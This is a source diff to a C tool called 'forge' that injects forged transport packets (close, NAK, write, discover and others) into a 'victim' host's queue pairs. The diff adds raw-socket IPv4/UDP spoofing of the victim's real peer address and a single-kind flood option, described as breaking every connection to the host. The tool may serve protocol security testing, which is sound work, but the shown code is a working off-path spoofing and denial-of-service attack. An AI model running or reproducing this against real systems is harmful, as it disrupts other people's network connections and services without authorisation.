@@ -18,9 +18,15 @@
  *   discover      DISCOVER in this host's daemon's name with a new node id and other planes:
  *                 a restart, every QP to this host failed, unless the victim asks back
  *
- *   forge ADDR PORT SECONDS ROUNDS QPN...   prints how many of each it sent, how fast
+ * Off-path (-s SOURCE): from another host, spoofing SOURCE, the victim's real peer, as the
+ * source address of raw IPv4 datagrams; -k KIND sends that kind alone (a DISCOVER flood).
+ *
+ *   forge [-s SOURCE] [-k KIND] ADDR PORT SECONDS ROUNDS QPN...
+ *                        prints how many of each it sent, how fast
  */
 #include <arpa/inet.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -39,7 +45,7 @@ static const char *const names[KINDS] = { "close",	  "nak_access", "nak_rnr",
 					  "probe_reply", "write",	"send",
 					  "read_req",	  "discover" };
 
-static struct sockaddr_in self; /* this host's address towards the victim */
+static struct sockaddr_in self; /* this host's address towards the victim, or the spoofed */
 
 static uint64_t guess(void)
 {
@@ -142,19 +148,70 @@ static void forge(struct mrc_packet *p, enum kind k, uint32_t qpn)
 	}
 }
 
+/* The datagram from the spoofed source, IPv4 and UDP headers written here (the kernel
+ * fills the IP checksum and id; a zero UDP checksum is none). */
+static ssize_t send_spoofed(int raw, const struct sockaddr_in *to, uint16_t sport,
+			    const uint8_t *mrc, size_t len)
+{
+	static uint8_t pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + MRC_WIRE_MAX_PACKET];
+	struct iphdr *ip = (void *)pkt;
+	struct udphdr *udp = (void *)(ip + 1);
+	size_t total = sizeof(*ip) + sizeof(*udp) + len;
+
+	memset(pkt, 0, sizeof(*ip) + sizeof(*udp));
+	ip->version = 4;
+	ip->ihl = 5;
+	ip->ttl = 64;
+	ip->protocol = IPPROTO_UDP;
+	ip->tot_len = htons((uint16_t)total);
+	ip->saddr = self.sin_addr.s_addr;
+	ip->daddr = to->sin_addr.s_addr;
+	udp->source = htons(sport);
+	udp->dest = to->sin_port;
+	udp->len = htons((uint16_t)(sizeof(*udp) + len));
+	memcpy(udp + 1, mrc, len);
+	return sendto(raw, pkt, total, 0, (const struct sockaddr *)to, sizeof(*to)) ==
+			       (ssize_t)total ? (ssize_t)len : -1;
+}
+
+static int kind_named(const char *name)
+{
+	for (int k = 0; k < KINDS; k++)
+		if (!strcmp(names[k], name))
+			return k;
+	fprintf(stderr, "forge: no kind %s\n", name);
+	exit(2);
+}
+
 int main(int argc, char **argv)
 {
 	struct sockaddr_in to = { .sin_family = AF_INET };
 	unsigned long sent[KINDS] = { 0 }, rounds;
 	uint8_t buf[MRC_WIRE_MAX_PACKET];
 	double start = seconds_now(), until;
+	int only = -1, raw = -1, opt;
 
-	if (argc < 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
-		fprintf(stderr, "usage: forge ADDR PORT SECONDS ROUNDS QPN...\n");
+	while ((opt = getopt(argc, argv, "s:k:")) != -1) {
+		if (opt == 's' && inet_pton(AF_INET, optarg, &self.sin_addr) == 1)
+			raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+		else if (opt == 'k')
+			only = kind_named(optarg);
+		else
+			raw = -2;
+		if (raw == -1 && opt == 's') {
+			perror("forge: a raw socket for spoofing");
+			return 1;
+		}
+	}
+	argc -= optind - 1;
+	argv += optind - 1;
+	if (raw == -2 || argc < 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
+		fprintf(stderr, "usage: forge [-s SOURCE] [-k KIND] ADDR PORT SECONDS ROUNDS "
+				"QPN...\n");
 		return 2;
 	}
 	to.sin_port = htons((uint16_t)atoi(argv[2]));
-	{
+	if (raw < 0) {
 		socklen_t len = sizeof(self);
 		int fd = socket(AF_INET, SOCK_DGRAM, 0);
 
@@ -171,7 +228,8 @@ int main(int argc, char **argv)
 		for (int q = 5; q < argc; q++) {
 			uint32_t qpn = (uint32_t)strtoul(argv[q], NULL, 0);
 			/* a fresh source port each time, as a sprayed peer's packets have */
-			int fd = socket(AF_INET, SOCK_DGRAM, 0);
+			int fd = raw >= 0 ? raw : socket(AF_INET, SOCK_DGRAM, 0);
+			uint16_t sport = (uint16_t)(49152 + guess() % 16384);
 
 			if (fd < 0) {
 				perror("forge: socket");
@@ -181,21 +239,28 @@ int main(int argc, char **argv)
 				struct mrc_packet p;
 				size_t len;
 
+				if (only >= 0 && k != only)
+					continue;
 				forge(&p, (enum kind)k, qpn);
 				if (mrc_encode(&p, buf, sizeof(buf), &len)) {
 					fprintf(stderr, "forge: %s does not encode\n", names[k]);
 					return 1;
 				}
-				if (sendto(fd, buf, len, 0, (struct sockaddr *)&to, sizeof(to)) ==
-				    (ssize_t)len)
+				if ((raw >= 0 ? send_spoofed(raw, &to, sport, buf, len)
+					      : sendto(fd, buf, len, 0, (struct sockaddr *)&to,
+						       sizeof(to))) == (ssize_t)len)
 					sent[k]++;
 			}
-			close(fd);
+			if (raw < 0)
+				close(fd);
 		}
 		usleep(200); /* spread over the transfer, not one burst before it */
 	}
-	for (int k = 0; k < KINDS; k++)
-		printf("%s%s %lu", k ? ", " : "", names[k], sent[k]);
+	for (int k = 0, first = 1; k < KINDS; k++)
+		if (only < 0 || k == only) {
+			printf("%s%s %lu", first ? "" : ", ", names[k], sent[k]);
+			first = 0;
+		}
 	printf(" in %.3f s\n", seconds_now() - start);
 	return 0;
 }
